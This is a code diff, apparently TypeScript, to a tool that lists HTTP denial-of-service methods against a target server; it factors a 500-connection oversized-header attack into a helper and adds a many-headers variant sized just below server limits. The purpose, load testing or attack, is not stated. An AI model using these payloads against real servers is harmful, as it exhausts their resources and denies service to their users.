@@ -18,8 +18,9 @@ const CHUNK = Buffer.concat([Buffer.from(`${PIECE.length.toString(16)}\r\n`), PI
 const CRUMBS = Buffer.from('1\r\na\r\n'.repeat(10_000))
 const CHUNKED = 'Transfer-Encoding: chunked\r\n\r\n'
 
-/** Just below what a server reads of headers, and as many as Node takes. */
-const LARGE_HEADERS = `${'a:b\r\n'.repeat(1900)}X-Filler: ${'a'.repeat(4000)}\r\n`
+/** Just below what a server reads of headers: as many as it takes, and far more. */
+const LARGE_HEADERS = `${`a:${'b'.repeat(80)}\r\n`.repeat(LIMITS.headers - 28)}X-Filler: ${'a'.repeat(5000)}\r\n`
+const MANY_HEADERS = `${'a:b\r\n'.repeat(1900)}X-Filler: ${'a'.repeat(4000)}\r\n`
 
 /** As many as an address may have, but for the one that others need. */
 const CONNECTIONS = 120
@@ -69,18 +70,8 @@ export const WAYS: Way[] = [
       }
     },
   },
-  {
-    name: 'large headers, 500 at once',
-    isBulk: false,
-    run: (attack, target) =>
-      onEach(attack, 500, async () => {
-        const socket = await open(attack, target, { reads: true })
-        if (socket === null) return
-        await send(attack, socket, wholeRequest(target, LARGE_HEADERS))
-        while (!attack.isOver() && !socket.destroyed) await sleep(50)
-        socket.destroy()
-      }),
-  },
+  { name: 'large headers, 500 at once', isBulk: false, run: withHeaders(LARGE_HEADERS) },
+  { name: 'many headers, 500 at once', isBulk: false, run: withHeaders(MANY_HEADERS) },
   {
     name: 'endless body',
     isBulk: true,
@@ -121,6 +112,17 @@ export const WAYS: Way[] = [
       }),
   },
 ]
+
+function withHeaders(headers: string): Way['run'] {
+  return (attack, target) =>
+    onEach(attack, 500, async () => {
+      const socket = await open(attack, target, { reads: true })
+      if (socket === null) return
+      await send(attack, socket, wholeRequest(target, headers))
+      while (!attack.isOver() && !socket.destroyed) await sleep(50)
+      socket.destroy()
+    })
+}
 
 /** So that what is sent on all of them is sent at the same moment: the server finds it when it looks once. */
 async function openAll(attack: Attack, target: Target, { reads }: { reads: boolean }): Promise<Socket[]> {
